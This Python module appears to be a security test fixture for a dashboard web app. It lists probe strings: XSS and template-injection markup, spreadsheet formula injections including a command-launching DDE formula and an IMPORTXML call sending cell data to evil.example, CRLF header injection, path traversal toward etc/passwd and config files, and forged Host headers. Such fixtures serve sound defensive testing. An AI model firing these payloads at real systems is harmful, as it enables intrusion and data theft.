"""Texts that would act if anybody took them for more than text."""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from itertools import cycle, islice

HOST = "evil.example"
MARKUP = (
    "<script>alert(1)</script>",
    f'<b style="background:url(//{HOST})">x</b>',
    f'<a href="javascript:alert(1)">{HOST}</a>',
    f"<img src=//{HOST}/x onerror=alert(1)>",
    f'"><svg onload=alert(1)><iframe src="//{HOST}">',
    f"'-alert(1)-'\"`{HOST}`",
    f"javascript:alert('{HOST}')",
    "{{7*7}}${7*7}#{7*7}%{value}",
)
FORMULAS = (
    "=cmd|'/c calc'!A0",
    f'=HYPERLINK("http://{HOST}","x")',
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    f"=IMPORTXML(CONCAT(\"http://{HOST}/\",A1),\"//a\")",
)  # fmt: skip
# A right-to-left override shows a text backwards: gpj.exe for exe.jpg.
SIGNS = ("\u202egnp.elif", "a\u2066b\u2069", "\ufeffx", "e\u0301\u0301\u0301")
LINES = ("a\r\nSet-Cookie: x=1", "a\nb", "a\x00b", "../../etc/passwd", "%0d%0aSet-Cookie:%20x=1", "..%2f..%2fx")
ALL = (*MARKUP, *FORMULAS, *SIGNS, *LINES)
KEYS = (
    *("region", "direction", "from", "to", "format", "per", "measure", "theme", "lang", "inputs", "labels", "chart"),
    *("title", "note", "notes", "tables", "show", "progress", "sort", "filter", "event_id", "activity", "debug", "x"),
)
UP = ("../", "..%2f", "%2e%2e/", "%2e%2e%2f", "..\\", "..%5c", "%252e%252e%252f", "....//", "/", "//", "%00")
ROOTS = ("/assets/", "/assets/vendor/", "/api/datasets/", "/api/templates/", "/api/loads/", "/")
SECRETS = ("etc/passwd", "pyproject.toml", "dashboard/settings.py", "var/registers.duckdb", ".git/config")
METHODS = ("PUT", "PATCH", "DELETE", "TRACE", "CONNECT", "PROPFIND", "POST", "X")
READ = ("/", "/en/", "/api/charts", "/api/datasets/events.csv", "/healthz", "/_dash-layout", "/assets/mark.svg")
ABSENT = ("/_reload-hash", "/_favicon.ico", "/_dash-config", "/_alive_1", "/_mcp", "/api/", "/.env")
FORGED_HOSTS = (HOST, f"{HOST}:80", f"localhost.{HOST}", f"{HOST}/x", f"a@{HOST}", "<b>", f"[::1].{HOST}", "x y", "")
FORWARDED = (
    "X-Forwarded-Host",
    "X-Host",
    "X-Forwarded-Server",
    "X-Original-Host",
    "X-Forwarded-Prefix",
    "X-Original-URL",
)
FORGED: Mapping[str, str] = {"Forwarded": f"host={HOST}", "Origin": f"http://{HOST}", **dict.fromkeys(FORWARDED, HOST)}
TOLD = (
    *("/", "/en/", "/api/charts", "/api//charts", "/api/charts/", "/api/datapackage.json", "/api/openapi.json"),
    "//en/",
)


def queries(probes: tuple[str, ...] = ALL, times: int = 3) -> Iterator[dict[str, str]]:
    """Yield queries in which every key holds a probe, each time another one."""
    for first in range(times):
        yield dict(zip(KEYS, islice(cycle(probes), first * len(probes) // times, None), strict=False))
